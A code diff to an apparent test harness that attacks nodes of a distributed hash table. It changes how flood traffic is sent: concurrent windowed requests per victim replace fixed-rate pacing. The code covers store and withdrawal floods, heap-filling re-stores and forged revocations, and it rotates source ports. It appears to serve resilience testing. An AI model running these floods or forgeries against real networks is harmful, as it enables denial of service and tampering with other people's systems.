@@ -12,7 +12,6 @@ import contextlib
 import itertools
 import os
 import time
-from collections.abc import Callable
 from typing import Any
 
 from node_agent.credentials import CredentialPolicy, install_credential_checks
@@ -119,20 +118,28 @@ def store_payloads(records: list[Any]) -> list[dict[str, Any]]:
     return payloads
 
 
-async def paced_send(
-    peer_for: Callable[[int], RawPeer], jobs: list[tuple[dict[str, Any], Address]], until: float, rate: float
+async def windowed_send(
+    jobs: list[tuple[RawPeer, dict[str, Any], Address]], until: float, window: int = 8
 ) -> int:
-    """Send store requests at about `rate` datagrams/s until done or `until`; returns how many went."""
-    began = time.monotonic()
+    """Send store requests with at most `window` unanswered per victim, until done or `until`.
+
+    A determined attacker sends as fast as the victim takes them (a blind flood would mostly be dropped by
+    a busy victim's socket); every request waits at most 2 s for its answer.
+    """
+    gates: dict[Address, asyncio.Semaphore] = {}
+    tasks: set[asyncio.Task[Any]] = set()
     sent = 0
-    for i, (payload, to) in enumerate(jobs):
+    for peer, payload, to in jobs:
+        gate = gates.setdefault(to, asyncio.Semaphore(window))
+        await gate.acquire()
         if time.time() >= until:
+            gate.release()
             break
-        peer_for(i).send("store", payload, to)
+        task = asyncio.create_task(peer.request("store", payload, to, timeout=2.0))
+        task.add_done_callback(lambda _task, gate=gate: gate.release())
+        tasks.add(task)
         sent += 1
-        delay = began + sent / rate - time.monotonic()
-        if delay > 0 or sent % 16 == 0:
-            await asyncio.sleep(max(0.0, delay))
+    await asyncio.gather(*tasks)
     return sent
 
 
@@ -182,10 +189,10 @@ async def store_flood(victims: dict[str, str], duration: float, records: int, so
             sign_record(peer.core.identity, f"flood:{p}:{i % 10}", f"{i}", value, now + 3000)
             for i in range(per_peer)
         ]
-        per_port.append([(payload, to, peer) for payload in store_payloads(signed) for to in targets])
+        per_port.append([(peer, payload, to) for payload in store_payloads(signed) for to in targets])
     # round robin over the ports: every datagram comes from another source port than the one before
     jobs = [job for batch in itertools.zip_longest(*per_port) for job in batch if job is not None]
-    sent = await paced_send(lambda i: jobs[i][2], [(p, a) for p, a, _ in jobs], time.time() + duration, 800)
+    sent = await windowed_send(jobs, time.time() + duration)
     await asyncio.sleep(0.5)
     accepted = sum(p.accepted for p in peers)
     for peer in peers:
@@ -204,8 +211,8 @@ async def restore_heap(victims: dict[str, str], duration: float, count: int) -> 
     signed = [
         sign_record(peer.core.identity, "restore:one", None, b"x", now + 600 + i * 0.01) for i in range(count)
     ]
-    jobs = [(p, address_of(e)) for p in store_payloads(signed) for e in victims.values()]
-    sent = await paced_send(lambda i: peer, jobs, time.time() + duration, rate=200)
+    jobs = [(peer, p, address_of(e)) for p in store_payloads(signed) for e in victims.values()]
+    sent = await windowed_send(jobs, time.time() + duration)
     await asyncio.sleep(0.5)
     peer.close()
     return {"sent": sent, "notes": {"re_stores_per_victim": count, "records_accepted": peer.accepted}}
@@ -230,9 +237,9 @@ async def withdrawal_flood(
             for c in range(per_owner)
         ]
         jobs += [
-            (payload, address_of(e), peer) for payload in store_payloads(signed) for e in victims.values()
+            (peer, payload, address_of(e)) for payload in store_payloads(signed) for e in victims.values()
         ]
-    sent = await paced_send(lambda i: jobs[i][2], [(p, a) for p, a, _ in jobs], time.time() + duration, 200)
+    sent = await windowed_send(jobs, time.time() + duration)
     await asyncio.sleep(0.5)
     accepted = sum(p.accepted for p in peers)
     for peer in peers:
@@ -255,7 +262,7 @@ async def forged_revocations(
                          revocation_list_value([revoke], now), now + 20 * 3600)  # fmt: skip
     stored = {}
     for name, endpoint in victims.items():
-        answer = await peer.request("store", {"r": [record.to_wire()]}, address_of(endpoint))
+        answer = await peer.request("store", {"r": [record.to_wire()]}, address_of(endpoint), timeout=5.0)
         flags = answer.payload.get("ok") if answer is not None else None
         stored[name] = bool(isinstance(flags, list) and flags and flags[0] is True)
     reader = await DHTNode.create(initial_peers=[bootstrap], client_mode=True)
